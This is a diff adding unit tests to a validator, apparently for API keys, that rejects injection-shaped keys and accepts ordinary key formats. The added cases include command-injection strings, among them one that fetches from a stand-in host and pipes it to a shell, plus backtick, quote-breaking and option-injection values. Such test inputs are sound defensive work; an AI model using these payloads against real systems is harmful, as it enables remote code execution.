@@ -92,6 +92,12 @@ describe('parseApiKeyAnswer', () => {
     [body({ apiKey: 'abc def' }), 'white space, control or non-ASCII'],
     [body({ apiKey: 'clé' }), 'white space, control or non-ASCII'],
     [body({ apiKey: 'k'.repeat(5000) }), 'is 5000 characters long'],
+    [body({ apiKey: 'A1$(curl${IFS}evil.example|sh)' }), 'could run as code'],
+    [body({ apiKey: 'A1`id`' }), 'could run as code'],
+    [body({ apiKey: 'A1";id;"' }), 'could run as code'],
+    [body({ apiKey: "A1'&id&'" }), 'could run as code'],
+    [body({ apiKey: 'A1%PATH%' }), 'could run as code'],
+    [body({ apiKey: '--source=x' }), 'could run as code'],
     [body({ expires: 'tomorrow' }), '`expires` is not a valid time'],
     [body({ expires: 1795257221 }), '`expires` is not a valid time'],
     [body({ expires: '' }), '`expires` is not a valid time']
@@ -105,6 +111,21 @@ describe('parseApiKeyAnswer', () => {
       expect(parseApiKeyAnswer(body({ expires }), NOW)).toEqual({ value: KEY, expires: undefined })
     }
   )
+
+  it.each([
+    ['a nuget.org v5 key', `${'A1b2'.repeat(13)}${'Z9'.repeat(16)}`],
+    ['a GUID', 'e3b0c442-98fc-4c14-9afb-f4c8996fb924'],
+    ['a base64url or token-shaped key', 'gh_Ab-9.Zz_0']
+  ])('accepts %s', (_, key) => {
+    expect(parseApiKeyAnswer(body({ apiKey: key }), NOW).value).toBe(key)
+  })
+
+  it('refuses a key that is code without quoting it', () => {
+    const key = 'A1$(touch${IFS}pwned)'
+    expect(() => parseApiKeyAnswer(body({ apiKey: key }), NOW)).toThrow(
+      expect.objectContaining({ message: expect.not.stringContaining('touch') })
+    )
+  })
 
   it("reads .NET's 7-digit round-trip time", () => {
     expect(
